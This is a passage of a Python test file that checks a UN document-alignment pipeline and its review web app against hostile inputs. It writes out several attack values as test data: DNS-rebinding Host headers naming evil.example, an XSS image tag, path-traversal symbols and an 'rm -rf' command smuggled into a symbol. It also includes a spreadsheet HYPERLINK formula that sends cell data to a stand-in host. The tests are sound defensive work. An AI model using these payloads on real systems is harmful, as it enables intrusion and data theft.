"""Hostile cases (issue 10): each test here failed before its fix. Nothing lost, nobody in, no
traceback. The slow ones (a real browser, big inputs) are in ``test_hostile_slow.py``."""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from pipeline.align import corrections
from pipeline.cli import main
from pipeline.core.errors import InputError
from pipeline.review.app import Project, create_app
from tests.conftest import BUNDLED, ROOT, SHARED, need_shared

DOC = "UNODC_CCPCJ_EG.4_2020_1"
RESOLUTION = SHARED / "corpus" / "a_res_55_100"


@pytest.fixture()
def review(bundled_stages: Path, tmp_path: Path):
    project = Project(
        DOC,
        bundled_stages / "extracted",
        bundled_stages / "aligned",
        bundled_stages / "tagged",
        tmp_path / "corrections",
    )
    return project, create_app(project).test_client()


def first_row_with(client, lang: str) -> dict:
    data = client.get(f"/api/rows?langs={lang}").get_json()
    return next(r for r in data["rows"] if r["en_ids"] and r["cells"][lang]["ids"])


# --- 2. DNS rebinding and cross-site writes ---------------------------------------------------


def test_a_foreign_host_can_neither_read_nor_write(review) -> None:
    project, client = review
    row = first_row_with(client, "fr")["row"]
    assert client.get("/api/rows", headers={"Host": "evil.example"}).status_code == 403
    assert client.get("/", headers={"Host": "evil.example:8765"}).status_code == 403
    write = client.post(
        "/api/action", json={"action": "confirm", "row": row, "langs": ["fr"]}, headers={"Host": "evil.example"}
    )
    assert write.status_code == 403 and "unknown host" in write.get_json()["error"]
    assert not project.corrections_file.exists()
    for host in ("localhost", "127.0.0.1:8765", "LOCALHOST:5000"):
        assert client.get("/api/rows?langs=fr", headers={"Host": host}).status_code == 200


def test_the_bound_port_and_host_are_the_only_ones_answered(bundled_stages: Path, tmp_path: Path) -> None:
    stages = bundled_stages
    project = Project(DOC, stages / "extracted", stages / "aligned", stages / "tagged", tmp_path)
    client = create_app(project, "review.lan", 8765).test_client()
    assert client.get("/api/rows", headers={"Host": "review.lan:8765"}).status_code == 200
    assert client.get("/api/rows", headers={"Host": "127.0.0.1:8765"}).status_code == 200
    assert client.get("/api/rows", headers={"Host": "127.0.0.1:9999"}).status_code == 403
    assert client.get("/api/rows", headers={"Host": "review.lan.evil.example:8765"}).status_code == 403


def test_writes_from_another_origin_are_refused(review) -> None:
    project, client = review
    row = first_row_with(client, "fr")["row"]
    body = {"action": "confirm", "row": row, "langs": ["fr"]}
    for headers in (
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Referer": "http://evil.example/attack.html"},
        {"Origin": "https://localhost"},
    ):
        response = client.post("/api/action", json=body, headers=headers)
        assert response.status_code == 403, headers
    assert not project.corrections_file.exists()
    own = client.post("/api/action", json=body, headers={"Origin": "http://localhost", "Referer": "http://localhost/"})
    assert own.status_code == 200 and project.corrections_file.exists()


def test_no_page_of_the_app_may_be_framed_by_another_site(tmp_path: Path) -> None:
    client = create_app(Project(DOC, tmp_path, tmp_path, tmp_path, tmp_path / "corrections")).test_client()
    for response in (client.get("/"), client.post("/api/action", data="x"), client.get("/nowhere")):
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Content-Security-Policy"] == "frame-ancestors 'none'"


# --- 5 and 8. Review API inputs that used to answer 500 or the wrong thing ---------------------


@pytest.mark.parametrize(
    "body",
    [
        {"action": "confirm", "row": 1, "langs": [{}]},
        {"action": "confirm", "row": 1, "langs": [["fr"]]},
        {"action": "confirm", "row": True, "langs": ["fr"]},
    ],
)
def test_malformed_action_is_a_400_not_a_500_nor_row_one(review, body) -> None:
    project, client = review
    response = client.post("/api/action", json=body)
    assert response.status_code == 400 and response.get_json()["ok"] is False
    assert not project.corrections_file.exists()


@pytest.mark.parametrize(
    "extra",
    [{"who": {"x": 1}}, {"seen": "3"}, {"seen": 2.5}, {"text": ["check"]}],
)
def test_free_text_and_seen_of_the_wrong_type_are_a_400(review, extra) -> None:
    """A dict ``who`` was stored as its Python repr; a ``seen`` that is no integer turned the
    other-tab warning off without a word."""
    project, client = review
    row = first_row_with(client, "fr")["row"]
    body = {"action": "comment", "row": row, "langs": ["fr"], "text": "check the term", **extra}
    response = client.post("/api/action", json=body)
    assert response.status_code == 400 and response.get_json()["ok"] is False
    assert not project.corrections_file.exists()


def test_a_tag_decision_keeps_its_free_text_in_bounds(review) -> None:
    """The tag journal took ``who`` and ``comment`` of any length, and of any type as their repr."""
    project, client = review
    pid = first_row_with(client, "fr")["en_ids"][0]
    tag = sorted(project.taxonomy.ids)[0]
    decision = {"para_id": pid, "tag": tag, "action": "add"}
    bad = client.post("/api/tag", json={**decision, "comment": {"x": 1}})
    assert bad.status_code == 400 and not project.tag_decisions_file.exists()
    assert client.post("/api/tag", json={**decision, "who": "w" * 500, "comment": "c" * 5000}).status_code == 200
    [saved] = [json.loads(line) for line in project.tag_decisions_file.read_text(encoding="utf-8").splitlines()]
    assert (len(saved["who"]), len(saved["comment"])) == (80, 2000)


def test_the_document_name_on_the_page_is_escaped(tmp_path: Path) -> None:
    doc = "A<img src=x onerror=alert(1)>"
    project = Project(doc, tmp_path, tmp_path, tmp_path, tmp_path / "corrections")
    page = create_app(project).test_client().get("/").get_data(as_text=True)
    assert "<img" not in page and "A&lt;img src=x onerror=alert(1)&gt;" in page


@pytest.mark.parametrize("url", ["/api/action", "/api/tag"])
def test_a_deeply_nested_or_huge_body_is_refused_before_anything_is_read(tmp_path: Path, url: str) -> None:
    """Both are refused before the app reads its stage files (none exist here)."""
    project = Project(DOC, tmp_path, tmp_path, tmp_path, tmp_path / "corrections")
    client = create_app(project).test_client()
    nested = client.post(url, data='{"action": "confirm", "row": ' + "[" * 100_000, content_type="application/json")
    assert nested.status_code == 400 and nested.get_json()["error"] == "expected a JSON object"
    huge = client.post(url, json={"action": "comment", "comment": "x" * 2_000_000, "text": "x"})
    assert huge.status_code == 413 and huge.get_json()["ok"] is False
    assert not project.corrections.exists()


def test_a_language_named_twice_is_acted_on_once(review) -> None:
    project, client = review
    row = first_row_with(client, "fr")["row"]
    response = client.post("/api/action", json={"action": "no_counterpart", "row": row, "langs": ["fr", "fr"]})
    assert response.status_code == 200
    records = corrections.load(project.corrections_file)
    assert len(records) == len({(tuple(r.src_ids), tuple(r.tgt_ids)) for r in records}) == len(response.json["saved"])


def test_no_languages_is_refused_not_all_confirmed(review) -> None:
    _, client = review
    response = client.get("/api/rows?langs=,")
    assert response.status_code == 400
    assert "at least one" in response.get_json()["error"]


def test_a_comment_is_shown_once(review) -> None:
    _, client = review
    row = first_row_with(client, "fr")
    saved = client.post(
        "/api/action", json={"action": "comment", "row": row["row"], "langs": ["fr"], "text": "check the term"}
    )
    assert saved.status_code == 200
    shown = next(r for r in client.get("/api/rows?langs=fr").get_json()["rows"] if r["row"] == row["row"])
    assert [c["text"] for c in shown["comments"]] == ["check the term"]


def test_a_half_written_last_correction_is_skipped_and_the_rest_goes_on(review, caplog) -> None:
    project, client = review
    row = first_row_with(client, "fr")["row"]
    assert client.post("/api/action", json={"action": "confirm", "row": row, "langs": ["fr"]}).status_code == 200
    with open(project.corrections_file, "a", encoding="utf-8") as handle:
        handle.write('{"lang": "fr", "action": "li')  # the append was killed here
    assert client.get("/api/rows?langs=fr").status_code == 200
    again = client.post("/api/action", json={"action": "no_counterpart", "row": row, "langs": ["fr"]})
    assert again.status_code == 200
    records = corrections.load(project.corrections_file)
    assert [r.id for r in records] == list(range(1, len(records) + 1)) and len(records) >= 2
    assert records[0].action == "confirm" and {r.action for r in records[1:]} == {"link"}
    assert "line 2 is not a record, skipped" in caplog.text


def test_a_save_landing_while_another_is_computed_still_warns(review, monkeypatch) -> None:
    """Two tabs saving the same row at once: the other tab's correction is appended after this
    request read the journal (its view takes seconds when it realigns) but before its own append."""
    project, client = review
    data = client.get("/api/rows?langs=fr").get_json()
    row = next(r for r in data["rows"] if r["en_ids"] and r["cells"]["fr"]["ids"])["row"]
    real = corrections.append

    def racing(path: Path, records: list[corrections.Correction]) -> list[corrections.Correction]:
        monkeypatch.setattr(corrections, "append", real)
        real(path, [dataclasses.replace(records[0], who="tab two", when="", id=0)])
        return real(path, records)

    monkeypatch.setattr(corrections, "append", racing)
    body = {"action": "confirm", "row": row, "langs": ["fr"], "seen": data["last"], "who": "tab one"}
    response = client.post("/api/action", json=body)
    assert response.status_code == 200 and response.get_json()["saved"] == [2]
    assert "changed in another tab" in response.get_json()["warning"] and "tab two" in response.get_json()["warning"]
    assert [c.who for c in corrections.load(project.corrections_file)] == ["tab two", "tab one"]


def test_a_journal_edited_to_the_same_length_is_shown_as_it_now_is(review) -> None:
    """The realigned view was cached by the journal's length: a journal replaced by hand with
    another of as many records still showed the old one's alignment."""
    project, client = review
    rows = [r for r in client.get("/api/rows?langs=fr").get_json()["rows"] if r["en_ids"] and r["cells"]["fr"]["ids"]]
    first, second = rows[0], rows[3]

    def alone(row: dict) -> bool:  # its French paragraphs sit in a row without English
        view = client.get("/api/rows?langs=fr").get_json()["rows"]
        return any(r["cells"]["fr"]["ids"] == row["cells"]["fr"]["ids"] and not r["en_ids"] for r in view)

    assert (
        client.post("/api/action", json={"action": "no_counterpart", "row": first["row"], "langs": ["fr"]}).status_code
        == 200
    )
    assert alone(first) and not alone(second)
    count = len(corrections.load(project.corrections_file))
    project.corrections_file.unlink()  # a person puts another journal of as many records in its place
    assert (
        client.post("/api/action", json={"action": "no_counterpart", "row": second["row"], "langs": ["fr"]}).status_code
        == 200
    )
    assert len(corrections.load(project.corrections_file)) == count
    assert alone(second) and not alone(first)


# --- 6. A stale correction must not cap a language's confidence --------------------------------


def test_a_stale_correction_leaves_confidence_alone(bundled_stages: Path, review, tmp_path: Path) -> None:
    project, client = review
    row = first_row_with(client, "fr")
    assert (
        client.post("/api/action", json={"action": "no_counterpart", "row": row["row"], "langs": ["fr"]}).status_code
        == 200
    )
    edited = tmp_path / "extracted"
    shutil.copytree(bundled_stages / "extracted", edited)
    path = edited / DOC / "fr.jsonl"
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    for record in records:
        if record["para_id"] in row["cells"]["fr"]["ids"]:
            record["text"] += " (révisé)"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    out = tmp_path / "aligned"
    args = ["align", str(edited), "--segmented", "", "--out", str(out), "--corrections", str(project.corrections)]
    assert main(args) == 0
    report = json.loads((out / DOC / "report.json").read_text(encoding="utf-8"))
    assert report["pairs"]["fr"]["corrections_stale"] == 1
    links = [json.loads(line) for line in (out / DOC / "en-fr.paragraphs.jsonl").read_text().splitlines()]
    assert report["pairs"]["fr"]["mean_confidence"] > 0.5
    assert sum(link["confidence"] > 0.05 for link in links) > 0.8 * len(links)


# --- 1. Corpus mode never deletes outside a set's own folder ------------------------------------


@pytest.mark.parametrize("symbol", ["..", " ", "A/../B", "./A", "A//1", "A/1/", "../../etc", "A\\B", "A/1;rm -rf"])
def test_manifest_refuses_symbols_that_are_not_symbols(tmp_path: Path, symbol: str) -> None:
    from pipeline.corpus.stage import load_manifest

    manifest = tmp_path / "manifest.csv"
    manifest.write_text(f'symbol,languages,source\n"{symbol}",en,{BUNDLED}\n', encoding="utf-8")
    with pytest.raises(InputError, match=r"line 2: .* is not a UN document symbol"):
        load_manifest(manifest)


def test_two_rows_with_one_symbol_are_an_error(tmp_path: Path) -> None:
    from pipeline.corpus.stage import load_manifest

    manifest = tmp_path / "manifest.csv"
    rows = [f"UNODC/CCPCJ/EG.4/2020/1,en,{BUNDLED}", f"UNODC_CCPCJ_EG.4_2020_1 ,fr,{BUNDLED}"]
    manifest.write_text("symbol,languages,source\n" + "\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"line 3: .* is already the set of line 2"):
        load_manifest(manifest)


def test_two_rows_whose_symbols_differ_only_in_case_are_an_error(tmp_path: Path) -> None:
    from pipeline.corpus.stage import load_manifest

    manifest = tmp_path / "manifest.csv"
    rows = [f"A/RES/55/100,en,{BUNDLED}", f"E/CN.15/2020/1,en,{BUNDLED}", f"a/res/55/100,fr,{BUNDLED}"]
    manifest.write_text("symbol,languages,source\n" + "\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"line 4: 'a/res/55/100' is already the set of line 2"):
        load_manifest(manifest)


@pytest.mark.parametrize("symbol", ["..", " ", "."])
def test_a_set_run_deletes_nothing_outside_its_folder(tmp_path: Path, symbol: str) -> None:
    """Entries need not come from a manifest (scripts, other schedulers): the set's run checks
    its folder itself before replacing it."""
    from pipeline.corpus.stage import Entry, process_set

    out = tmp_path / "out"
    (out / "sets" / "OTHER_1").mkdir(parents=True)
    (out / "sets" / "OTHER_1" / "done.json").write_text("{}", encoding="utf-8")
    (out / "unrelated.txt").write_text("keep me", encoding="utf-8")
    with pytest.raises(InputError, match="not a UN document symbol"):
        process_set(Entry(symbol, ("en",), BUNDLED), out, {}, "key")
    assert (out / "unrelated.txt").read_text(encoding="utf-8") == "keep me"
    assert (out / "sets" / "OTHER_1" / "done.json").exists()


def test_a_set_that_fails_before_running_leaves_no_old_results_to_export(tmp_path: Path) -> None:
    """Its source folder gone (or its download failing): the run reports the set failed, so the
    store must not keep the last run's partitions for the exports to pick up."""
    from pipeline.corpus.stage import STORE_TABLES, Entry, export_store, process_set

    out = tmp_path / "out"
    (out / "sets" / "A_1").mkdir(parents=True)
    (out / "sets" / "A_1" / "done.json").write_text('{"doc": "A_1", "key": "old"}', encoding="utf-8")
    for table in STORE_TABLES:
        (out / "store" / table / "doc=A_1").mkdir(parents=True)
        pd.DataFrame([{"row": 1}]).to_parquet(out / "store" / table / "doc=A_1" / "part-0.parquet")
    with pytest.raises(InputError, match="moved-away: document-set folder not found"):
        process_set(Entry("A/1", ("en",), tmp_path / "moved-away"), out, {}, "new")
    assert not list(out.rglob("*.*")), "no partition, no done.json"
    assert export_store(out / "store", tmp_path / "exports") == []


def test_a_truncated_done_marker_means_run_again(tmp_path: Path, caplog) -> None:
    from pipeline.corpus.stage import done_result

    marker = tmp_path / "sets" / DOC / "done.json"
    marker.parent.mkdir(parents=True)
    marker.write_text('{"doc": "UNODC_CCPCJ_EG.4_2020_1", "status": "o', encoding="utf-8")
    assert done_result(tmp_path, DOC, "key") is None
    assert "unreadable" in caplog.text


# --- 4. CSV formula injection ----------------------------------------------------------------

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture()
def poisoned(bundled_stages: Path, tmp_path: Path) -> Path:
    """The bundled stage outputs with the first English paragraph replaced by a formula and the
    first French one starting with a minus sign."""
    root = tmp_path / "stages"
    for stage in ("aligned", "tagged"):
        shutil.copytree(bundled_stages / stage / DOC, root / stage / DOC)
    sixway = root / "aligned" / DOC / "sixway.jsonl"
    rows = [json.loads(line) for line in sixway.read_text(encoding="utf-8").splitlines()]
    first = next(r for r in rows if r["en_ids"] and r.get("fr_ids"))
    first["en"], first["fr"] = ATTACK, "-1 pour cent@"
    sixway.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    tagged = root / "tagged" / DOC / "en.jsonl"
    paragraphs = [json.loads(line) for line in tagged.read_text(encoding="utf-8").splitlines()]
    next(p for p in paragraphs if p["para_id"] == first["en_ids"][0])["text"] = ATTACK
    tagged.write_text("".join(json.dumps(p, ensure_ascii=False) + "\n" for p in paragraphs), encoding="utf-8")
    return root


def _export(root: Path, out: Path, *extra: str) -> tuple[pd.DataFrame, pd.DataFrame]:
    args = ["export", "--aligned", str(root / "aligned"), "--tagged", str(root / "tagged"), "--out", str(out)]
    assert main([*args, "--segmented", "", *extra]) == 0
    read = {"dtype": str, "keep_default_na": False}
    return pd.read_csv(out / f"{DOC}.wide.csv", **read), pd.read_csv(out / f"{DOC}.long.csv", **read)


def test_csv_cells_that_would_run_as_formulas_are_neutralised(poisoned: Path, tmp_path: Path) -> None:
    wide, long = _export(poisoned, tmp_path / "exports")
    assert "'" + ATTACK in set(wide["en"]) and "'-1 pour cent@" in set(wide["fr"])
    assert "'" + ATTACK in set(long["text"])
    for frame in (wide, long):
        cells = frame.to_numpy().ravel()
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert pd.to_numeric(wide["confidence"]).between(0, 1).all(), "numbers stay numbers"
    tmx = (tmp_path / "exports" / f"{DOC}.tmx").read_text(encoding="utf-8")
    assert "<seg>=HYPERLINK(" in tmx, "the TMX keeps the exact text"


def test_raw_csv_and_the_parquet_store_keep_the_exact_text(poisoned: Path, tmp_path: Path) -> None:
    from pipeline.corpus.stage import write_store

    wide, long = _export(poisoned, tmp_path / "raw", "--raw-csv")
    assert ATTACK in set(wide["en"]) and ATTACK in set(long["text"])
    write_store(tmp_path / "store", DOC, poisoned)
    store = pd.read_parquet(tmp_path / "store" / "paragraphs", filters=[("lang", "=", "en")])
    assert ATTACK in set(store["text"])


# --- 5. Control characters, empty tag summaries, unwritable outputs ----------------------------

CONTROLS = ["\x01", "\x1b[31m", "\x7f", "\x85", "\x0b"]


def test_control_characters_are_cleaned_at_extraction_and_counted(tmp_path: Path) -> None:
    from pipeline.core.records import read_jsonl
    from pipeline.export.stage import DocData, Filters, tmx_tree, write_tmx

    need_shared()
    folder = tmp_path / "raw" / "A_RES_55_100"
    folder.mkdir(parents=True)
    for lang in ("en", "fr"):
        lines = (RESOLUTION / f"A_RES_55_100.{lang}.txt").read_text(encoding="utf-8").splitlines()[:12]
        lines[1] = lines[1].replace(" ", " " + "".join(CONTROLS), 1)
        lines[3] = "\x01" + lines[3]
        (folder / f"{lang}.txt").write_text("\n\n".join(lines) + "\n", encoding="utf-8")
    assert main(["extract", str(folder), "--out", str(tmp_path / "extracted")]) == 0
    report = json.loads((tmp_path / "extracted" / "A_RES_55_100" / "report.json").read_text(encoding="utf-8"))
    paragraphs = {}
    for lang in ("en", "fr"):
        assert report["languages"][lang]["removed"]["control characters"] == 6
        paragraphs[lang] = list(read_jsonl(tmp_path / "extracted" / "A_RES_55_100" / f"{lang}.jsonl"))
        text = "".join(p["text"] for p in paragraphs[lang])
        assert not [c for c in text if ord(c) < 32 or 0x7F <= ord(c) <= 0x9F]
        assert "[31m" in text, "only the control character goes, the printable rest stays"
    with_line = folder / "en.txt"  # a line of control characters only is a blank line (it crashed reflow)
    with_line.write_text(with_line.read_text(encoding="utf-8").replace("\n\n", "\n\x01\n"), encoding="utf-8")
    assert main(["extract", str(with_line), "--out", str(tmp_path / "lines.jsonl")]) == 0
    assert [p["text"] for p in read_jsonl(tmp_path / "lines.jsonl")] == [p["text"] for p in paragraphs["en"]]
    rows = [
        {"row": k, "en": en["text"], "fr": fr["text"], "tags": []}
        for k, (en, fr) in enumerate(zip(paragraphs["en"], paragraphs["fr"]), 1)
    ]
    data = DocData("A_RES_55_100", "A/RES/55/100", rows, paragraphs)
    write_tmx(tmx_tree([data], Filters(langs=("en", "fr")), "paragraph", {}, {}), tmp_path / "out.tmx")
    assert (tmp_path / "out.tmx").read_text(encoding="utf-8").count("<tu ") == len(rows)
    # A stage file or a folder name (extract and align accept "B\x1b_2") can still carry one:
    # lxml refused the whole TMX, and the export stopped before the sets after it.
    rows[0]["en"] += "\x0b"
    odd = DocData("B\x1b_2", "A/RES/55/100\x01", rows, paragraphs)
    write_tmx(tmx_tree([odd], Filters(langs=("en", "fr")), "paragraph", {}, {}), tmp_path / "odd.tmx")
    tmx = (tmp_path / "odd.tmx").read_text(encoding="utf-8")
    assert tmx.count("<tu ") == len(rows) and 'tuid="B_2:1"' in tmx


def test_an_export_with_no_tags_at_all_still_draws_its_chart(tmp_path: Path) -> None:
    from pipeline.export.stage import plot_summary, summary_frame

    plot_summary(summary_frame([]), tmp_path / "tag_distribution.png")
    assert (tmp_path / "tag_distribution.png").read_bytes()[:4] == b"\x89PNG"


def test_an_unwritable_output_is_one_line_not_a_traceback(tmp_path: Path, capsys) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder", encoding="utf-8")
    code = main(["extract", str(BUNDLED / "zh.txt"), "--lang", "zh", "--out", str(blocker / "zh.jsonl")])
    err = capsys.readouterr().err
    assert code == 2 and len(err.strip().splitlines()) == 1 and str(blocker) in err
    if os.geteuid() != 0:  # root writes through a read-only mode
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        assert main(["extract", str(BUNDLED / "zh.txt"), "--lang", "zh", "--out", str(locked / "zh.jsonl")]) == 2
        assert len(capsys.readouterr().err.strip().splitlines()) == 1


@pytest.mark.parametrize("into", ["tagged", "tagged/A_1", "segmented"])
def test_an_export_into_any_folder_it_reads_is_refused(tmp_path: Path, capsys, into: str) -> None:
    for stage in ("aligned", "tagged", "segmented"):
        (tmp_path / stage / "A_1").mkdir(parents=True)
        (tmp_path / stage / "report.json").write_text(json.dumps({"stage": stage}), encoding="utf-8")
    args = ["export", "--aligned", str(tmp_path / "aligned"), "--tagged", str(tmp_path / "tagged")]
    args += ["--segmented", str(tmp_path / "segmented"), "--level", "sentence", "--out", str(tmp_path / into)]
    assert main(args) == 2
    assert "overlaps the input" in capsys.readouterr().err
    for stage in ("aligned", "tagged", "segmented"):
        assert (tmp_path / stage / "report.json").read_text(encoding="utf-8") == json.dumps({"stage": stage})
    assert not list(tmp_path.rglob("*.csv")) and not list(tmp_path.rglob("*.png"))


# --- 7. Wrong language ---------------------------------------------------------------------


def test_a_french_pdf_extracted_as_chinese_warns(tmp_path: Path, caplog) -> None:
    assert main(["extract", str(BUNDLED / "fr.pdf"), "--lang", "zh", "--out", str(tmp_path / "zh.jsonl")]) == 0
    assert "text labelled 'zh' looks like 'fr'" in caplog.text
    caplog.clear()
    assert main(["extract", str(BUNDLED / "fr.pdf"), "--lang", "fr", "--out", str(tmp_path / "fr.jsonl")]) == 0
    assert "looks like" not in caplog.text


# --- 8. Small things -------------------------------------------------------------------------


def test_a_missing_path_is_called_missing(tmp_path: Path, capsys) -> None:
    assert main(["extract", str(tmp_path / "no-such.pdf")]) == 2
    assert "no such file or folder" in capsys.readouterr().err


def test_a_folder_with_no_document_sets_is_an_error(tmp_path: Path, capsys) -> None:
    (tmp_path / "empty" / "sub").mkdir(parents=True)
    (tmp_path / "empty" / "notes.md").write_text("nothing here", encoding="utf-8")
    assert main(["extract", str(tmp_path / "empty"), "--out", str(tmp_path / "out")]) == 2
    assert "no document sets here" in capsys.readouterr().err


WRITER = """
import sys, time
sys.path.insert(0, sys.argv[2])
from pipeline.core.atomic import atomic_path
with atomic_path(sys.argv[1]) as tmp:
    tmp.write_text("half", encoding="utf-8")
    print("writing", flush=True)
    time.sleep(60)
"""


def test_a_killed_write_leaves_no_temporary_file_for_long(tmp_path: Path) -> None:
    """kill -9 runs no clean-up, so the killed writer's temporary file is still there; the next
    write into that folder removes it (its process is gone), and never a live writer's."""
    from pipeline.core.records import write_jsonl

    target = tmp_path / "out" / "en.jsonl"
    write_jsonl(target, [{"a": 1}])
    writers = [
        subprocess.Popen([sys.executable, "-c", WRITER, str(target), str(ROOT)], stdout=subprocess.PIPE, text=True)
        for _ in range(2)
    ]
    try:
        for writer in writers:
            assert writer.stdout.readline().strip() == "writing"
        writers[0].kill()
        writers[0].wait()
        assert len(list(target.parent.glob(".*.tmp"))) == 2
        write_jsonl(target, [{"a": 2}])
        left = list(target.parent.glob(".*.tmp"))
        assert len(left) == 1 and f"-{writers[1].pid}." in left[0].name, "the live writer's file is kept"
    finally:
        writers[1].kill()
        writers[1].wait()
    time.sleep(0.1)
    write_jsonl(target, [{"a": 3}])
    assert sorted(p.name for p in target.parent.iterdir()) == ["en.jsonl"]
    assert target.read_text(encoding="utf-8") == '{"a": 3}\n'


def test_a_hand_edited_correction_that_breaks_a_link_is_stale_not_applied() -> None:
    """Valid JSON with the right hashes can still name paragraphs that do not follow each other
    (en-p2 and en-p3 then sat in no link) or an id of the other side (a KeyError stopped the
    stage): such a record is reported stale, like one whose text changed."""
    from tests.conftest import udhr_units

    en = {f"en-p{k}": text for k, text in enumerate(udhr_units("en")[3:9], 1)}
    fr = {f"fr-p{k}": text for k, text in enumerate(udhr_units("fr")[3:9], 1)}
    texts = {**en, **fr}
    good = corrections.make("fr", "link", ["en-p2", "en-p3"], ["fr-p2"], texts)
    assert corrections.in_force([good], en, fr, "fr").active == [good]
    for src_ids, tgt_ids, why in (
        (["en-p1", "en-p4"], ["fr-p1"], "not consecutive"),
        (["en-p3", "en-p2"], ["fr-p2"], "not consecutive"),
        (["fr-p1"], ["en-p1"], "not on its side"),
        (["en-p1"], ["fr-p1", "fr-p3"], "not consecutive"),
    ):
        record = corrections.make("fr", "link", src_ids, tgt_ids, texts)
        applied = corrections.in_force([record], en, fr, "fr")
        assert not applied.active and why in applied.stale[0][1], (src_ids, tgt_ids, applied)


# --- Hostile pass 24 -------------------------------------------------------------------------


@pytest.mark.parametrize("verb", ["extract", "segment", "tag"])
def test_an_out_that_is_a_folder_is_named_as_such(tmp_path: Path, capsys, verb: str) -> None:
    """A single file with ``--out`` naming an existing folder: the error named the hidden
    temporary file the rename failed from, not the user's path."""
    source = tmp_path / "en.txt"
    source.write_text("The Commission adopted the report.\n", encoding="utf-8")
    folder = tmp_path / "out"
    folder.mkdir()
    extra = ["--rules-only"] if verb == "tag" else []
    assert main([verb, str(source), "--out", str(folder), *extra]) == 2
    err = capsys.readouterr().err.strip()
    assert err == f"hexalign {verb}: {folder}: is a folder, not a file; name a file to write"
    assert not any(folder.iterdir()) and sorted(p.name for p in tmp_path.iterdir()) == ["en.txt", "out"]


@pytest.mark.parametrize("verb", ["segment", "tag"])
def test_an_empty_single_file_is_an_error_naming_it(tmp_path: Path, capsys, verb: str) -> None:
    """Extract refuses an empty file; segment and tag wrote an empty output and exited 0."""
    source = tmp_path / "en.txt"
    source.write_text("\n  \n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    extra = ["--rules-only"] if verb == "tag" else []
    assert main([verb, str(source), "--out", str(out), *extra]) == 2
    assert capsys.readouterr().err.strip() == f"hexalign {verb}: {source}: empty file: no paragraphs to read"
    assert not out.exists()


def test_align_bitext_with_an_empty_side_names_it(tmp_path: Path, capsys) -> None:
    """One empty side printed a null link for every unit of the other, and exit 0."""
    src, empty = tmp_path / "en.txt", tmp_path / "fr.txt"
    src.write_text("One sentence.\nAnother one.\n", encoding="utf-8")
    empty.write_text("\n", encoding="utf-8")
    params = tmp_path / "params.yaml"
    params.write_text("embedding:\n  cache: null\n", encoding="utf-8")
    args = ["align-bitext", str(src), str(empty), "--src-lang", "en", "--tgt-lang", "fr", "--params", str(params)]
    assert main([*args, "--presplit"]) == 2
    out = capsys.readouterr()
    assert out.out == "" and out.err.strip() == f"hexalign align-bitext: {empty}: empty file: no text to align"


def test_plain_text_opening_with_a_brace_is_text(tmp_path: Path) -> None:
    """A first line starting with ``{`` was taken for JSON Lines and refused: a ``.txt`` file is
    text, and a file of another name is JSON Lines only when its first line is a JSON object."""
    from pipeline.core.records import read_paragraphs

    for name in ("en.txt", "en"):
        source = tmp_path / name
        source.write_text("{Braces} open this paragraph.\nA second one.\n", encoding="utf-8")
        assert [p["text"] for p in read_paragraphs(source, "en")] == ["{Braces} open this paragraph.", "A second one."]
    assert main(["segment", str(tmp_path / "en.txt"), "--out", str(tmp_path / "s.jsonl")]) == 0
    extracted = tmp_path / "extracted"
    extracted.write_text(
        json.dumps({"doc": "d", "lang": "en", "para_id": "en-p0001", "kind": "paragraph", "text": "{Braces}."}) + "\n",
        encoding="utf-8",
    )
    assert [p["para_id"] for p in read_paragraphs(extracted, "en")] == ["en-p0001"]


def test_a_stray_jsonl_in_a_stage_folder_is_no_language(tmp_path: Path, caplog) -> None:
    """``fr.old.jsonl`` beside ``fr.jsonl`` was segmented, aligned and tagged as a language
    "fr.old"; only ``<lang>.jsonl`` is read, and the skipped file is named in the log."""
    from pipeline.align.stage import run_align
    from pipeline.core.params import Params
    from tests.fakes import FakeEmbedder

    extracted = tmp_path / "extracted" / "A_1"
    extracted.mkdir(parents=True)
    texts = {"en": "The Commission adopted the report.", "fr": "La Commission a adopté le rapport."}
    for name in ("en", "fr", "fr.old", "en.bak"):
        lang = name[:2]
        record = {"doc": "A_1", "lang": lang, "para_id": f"{lang}-p0001", "kind": "paragraph", "label": ""}
        record["text"] = texts[lang]
        (extracted / f"{name}.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    stages = {stage: tmp_path / stage for stage in ("extracted", "segmented", "aligned", "tagged")}
    assert main(["segment", str(stages["extracted"]), "--out", str(stages["segmented"])]) == 0
    run_align(stages["extracted"], stages["segmented"], stages["aligned"], Params(), embedder=FakeEmbedder())
    tag = ["tag", str(stages["extracted"]), "--segmented", str(stages["segmented"]), "--out", str(stages["tagged"])]
    assert main([*tag, "--rules-only"]) == 0
    assert sorted(p.name for p in (stages["segmented"] / "A_1").iterdir()) == ["en.jsonl", "fr.jsonl"]
    aligned = sorted(p.name for p in (stages["aligned"] / "A_1").iterdir())
    assert aligned == ["en-fr.paragraphs.jsonl", "en-fr.sentences.jsonl", "report.json", "sixway.jsonl"]
    tagged = sorted(p.name for p in (stages["tagged"] / "A_1").iterdir())
    assert tagged == ["en.jsonl", "en.sentences.jsonl", "fr.jsonl", "fr.sentences.jsonl"]
    for name in ("fr.old.jsonl", "en.bak.jsonl"):
        assert f"{extracted / name}: skipped, not named <lang>.jsonl" in caplog.text


def test_sentences_of_a_paragraph_the_extract_file_lacks_are_refused(tmp_path: Path, capsys) -> None:
    """A segment output older than the extract (or edited) named paragraphs that are not there:
    tag tagged those sentences on their own and wrote them out as if they belonged."""
    from pipeline.align.stage import run_align
    from pipeline.core.params import Params
    from tests.fakes import FakeEmbedder

    extracted, segmented = tmp_path / "extracted" / "A_1", tmp_path / "segmented" / "A_1"
    extracted.mkdir(parents=True)
